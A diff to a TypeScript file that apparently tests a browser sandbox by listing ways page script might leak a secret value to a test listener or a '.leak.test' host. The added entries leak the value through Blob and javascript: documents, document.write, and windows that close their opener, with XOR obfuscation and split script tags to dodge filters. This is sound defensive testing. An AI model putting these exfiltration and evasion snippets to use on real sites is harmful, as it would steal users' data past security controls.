@@ -27,6 +27,9 @@ const style = (name: string, css: string): WayOut =>
   way(name, `const s = document.createElement('style'); s.textContent = ${css}; document.head.append(s)`)
 const NAMED = "'http://' + v.toLowerCase().replace(/[^a-z0-9]/g, '') + '.leak.test:' + new window.URL(L).port"
 const TURNED = 'v.replace(/[a-z]/gi, (c) => String.fromCharCode((c.charCodeAt(0) ^ 3)))'
+/** A document with it in the address of a picture, in letters that nobody knows again. */
+const PICTURED = `['<img src=' + JSON.stringify(L + '/x?' + ${TURNED}) + '>']`
+const OUTLIVING = `const u = L + '/x?' + ${TURNED}; w.document.write('<scr' + 'ipt>opener.close(); setTimeout(() => { new Image().src = ' + JSON.stringify(u) + ' }, 200)</scr' + 'ipt>')`
 
 export const WAYS_OUT: readonly WayOut[] = [
   form('a form to another site', "{ action: L + '/x', method: 'post' }"),
@@ -165,6 +168,17 @@ export const WAYS_OUT: readonly WayOut[] = [
     script:
       "[...v].forEach((c) => { document.body.append(Object.assign(document.createElement('iframe'), { src: '/x/' + c.charCodeAt(0) })) })",
   },
+  way(
+    'another document, made of it',
+    `location = window.URL.createObjectURL(new Blob(${PICTURED}, { type: 'text/html' }))`,
+  ),
+  way('another document, from a script', `location = 'javascript:' + JSON.stringify(${PICTURED}[0])`),
+  way('another document, written anew', `document.open(); document.write(${PICTURED}[0]); document.close()`),
+  way('a window that closes the page', `const w = window.open(''); if (w) { ${OUTLIVING} }`),
+  way(
+    'a window made of it that closes the page',
+    `const u = L + '/x?' + ${TURNED}; window.open(window.URL.createObjectURL(new Blob(['<scr' + 'ipt>opener.close(); setTimeout(() => { new Image().src = ' + JSON.stringify(u) + ' }, 200)</scr' + 'ipt>'], { type: 'text/html' })))`,
+  ),
   {
     name: 'a WebSocket that stood open',
     early: "globalThis.s = new WebSocket(L.replace('http', 'ws') + '/open')",
